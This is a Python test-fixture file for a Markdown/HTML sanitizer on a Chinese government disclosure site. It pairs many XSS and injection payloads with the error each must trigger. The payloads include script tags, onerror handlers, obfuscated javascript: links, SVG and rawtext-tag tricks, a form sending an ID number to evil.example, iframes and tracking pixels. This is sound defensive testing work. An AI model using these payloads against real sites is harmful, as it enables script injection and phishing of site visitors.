"""Bodies that ran script, loaded from other hosts or covered the page on the published site
before the sanitizer, each with a finding it must give; and an ordinary rich document.

Each payload: (id, Markdown body, a message the sanitizer must give, the body line (from 1)
that ``xxgk check`` must name)."""

from __future__ import annotations

LEAD = "各镇人民政府，旗直各有关部门：\n\n"  # the payload starts on body line 3

_RAWTEXT = [
    (
        tag,
        f'<{tag}><p title="</{tag}><img src=x\nonerror=alert(1)>">',
        "不允许的属性 onerror（<img>）",
        4,
    )
    for tag in ("xmp", "noscript", "noembed", "noframes", "textarea", "title")
]

PAYLOADS: list[tuple[str, str, str, int]] = [
    *[(f"rawtext-{tag}", LEAD + body, message, line) for tag, body, message, line in _RAWTEXT],
    *[
        (f"rawtext-tag-{tag}", LEAD + body, f"不允许的标签 <{tag}>", 3)
        for tag, body, _m, _l in _RAWTEXT
    ],
    (
        "svg-animate",
        LEAD + '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text x="20" y="20">点这里</text></a></svg>\n',
        "不允许的链接协议 javascript:",
        3,
    ),
    (
        "svg-set",
        LEAD + '<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
        '<text x="20" y="20">点这里</text></a></svg>\n',
        "不允许的标签 <svg>",
        3,
    ),
    ("base", LEAD + '<base href="http://evil.example/">\n', "不允许的标签 <base>", 3),
    (
        "meta-refresh",
        LEAD + '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
        "不允许的标签 <meta>",
        3,
    ),
    (
        "form",
        LEAD + '<form action="https://evil.example/collect"><input name="身份证号">'
        "<button>提交</button></form>\n",
        "不允许的标签 <form>",
        3,
    ),
    ("style", LEAD + "<style>.md-content{display:none}</style>\n", "不允许的标签 <style>", 3),
    (
        "link",
        LEAD + '<link rel="stylesheet" href="https://evil.example/x.css">\n',
        "不允许的标签 <link>",
        3,
    ),
    (
        "tracking-img",
        LEAD + '<img src="https://other.example/pixel.gif" alt="">\n',
        "不允许引用其他网站的图片 https://other.example/pixel.gif",
        3,
    ),
    (
        "tracking-md-img",
        LEAD + "![图](https://other.example/pixel.gif)\n",
        "不允许引用其他网站的图片 https://other.example/pixel.gif",
        3,
    ),
    (
        "backslash-img",
        LEAD + '<img src="\\\\other.example\\pixel.gif">\n',
        "不允许引用其他网站的图片",
        3,
    ),
    (
        "attr-list-overlay",
        LEAD + "重要通知，请点击下方链接。\n"
        '{: style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9" }\n',
        "不允许的属性 style（<p>）",
        4,
    ),
    (
        "attr-list-class",
        LEAD + "假的对话框\n{: .md-dialog }\n",
        "不允许的 class 名称 md-dialog（<p>）",
        4,
    ),
    (
        "unclosed-textarea",
        LEAD + "<textarea>\n\n后面的页脚都被吞掉\n",
        "不允许的标签 <textarea>",
        3,
    ),
    (
        "unclosed-plaintext",
        LEAD + "<plaintext>\n\n后面的页脚都被吞掉\n",
        "不允许的标签 <plaintext>",
        3,
    ),
    (
        "entity-md-link",
        LEAD + "[全文](&#106;avascript:alert(1))\n",
        "不允许的链接协议 javascript:",
        3,
    ),
    (
        "entity-html-link",
        LEAD + '<a href="&#x6A;ava&#115;cript&colon;alert(1)">全文</a>\n',
        "不允许的链接协议 javascript:",
        3,
    ),
    (
        "tab-in-scheme",
        LEAD + '<a href="java&#9;script:alert(1)">全文</a>\n',
        "不允许的链接协议 javascript:",
        3,
    ),
    (
        "reference-link",
        LEAD + "见[全文][1]。\n\n[1]: javascript:alert(1)\n",
        "不允许的链接协议 javascript:",
        5,
    ),
    ("autolink", LEAD + "<javascript:alert(1)>\n", "不允许的标签 <javascript:alert(1)>", 3),
    ("onerror", LEAD + "<img src=x onerror=alert(1)>\n", "不允许的属性 onerror（<img>）", 3),
    (
        "attr-list-onclick",
        LEAD + '[报名表](attachments/表.csv){: onclick="x()"}\n',
        "不允许的属性 onclick（<a>）",
        3,
    ),
    (
        "comment",
        LEAD + "正文。<!-- 内部意见：暂缓 -->\n",
        "不允许 HTML 注释（审查人员在页面上看不到注释里的文字）",
        3,
    ),
    ("script", LEAD + "<script>alert(1)</script>\n", "不允许的标签 <script>", 3),
    (
        "iframe",
        LEAD + '<iframe src="https://evil.example/"></iframe>\n',
        "不允许的标签 <iframe>",
        3,
    ),
    ("body-onload", LEAD + '<body onload="alert(1)">\n', "不允许的标签 <body>", 3),
    (
        "stray-end-tags",
        LEAD + "</div></article></div>\n\n<p>排到页面外面</p>\n",
        "多余的结束标签 </article>（会打乱页面结构）",
        3,
    ),
    (
        "data-uri",
        LEAD + '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>\n',
        "不允许的链接协议 data:",
        3,
    ),
    (
        "fence-attributes",
        LEAD + '```{ .python onclick="alert(1)" }\nprint(1)\n```\n',
        "不允许的属性 onclick（<code>）",
        3,
    ),
    (
        "fence-class",
        LEAD + "```{ .python .md-dialog }\n假的对话框\n```\n",
        "不允许的 class 名称 md-dialog（<pre>）",
        3,
    ),
]

ORDINARY = """\
各镇人民政府，旗直各有关部门：

[TOC]

## 一、工作目标 {#goal}

为做好政府信息公开工作，依据《中华人民共和国政府信息公开条例》&amp;有关规定，
结合本旗实际，制定本方案。A&B 与 a < b、“引号”和 'single' 都照原样显示。

## 二、资金安排

| 项目 | 金额（万元） | 备注 |
|:-----|-----:|:---:|
| 行政事业性收费 | 86.42 | **合计** |
| 专项资金 | 12.00 | *另行下达* |

1. 第一项，见[国务院政策文件库](https://www.gov.cn/zhengce/?a=1&b=2 "中国政府网")；
2. 第二项，见[本站目录](../../catalog/ "目录")和[本文第一部分](#goal)；
3. 联系邮箱 <xxgk@example.gov.cn>，[发邮件](mailto:xxgk@example.gov.cn)，[打电话](tel:0477-1234567)。

- 上标 m<sup>2</sup>，下标 H<sub>2</sub>O，<abbr title="政府信息公开">政务公开</abbr>，<u>下划线</u>
- 代码 `<script>` 只是文字

![工作流程图](attachments/流程图.png "流程图")

> 引用：公开为常态、不公开为例外。

    缩进的示例代码 <script>alert(1)</script>

```html
<script>围栏里的示例代码</script>
```

---

<table><tr><th colspan="2" scope="col">表头</th></tr><tr><td rowspan="1" align="center">1</td><td>2</td></tr></table>

<ol start="3" type="a"><li>第三项</li></ol>
"""
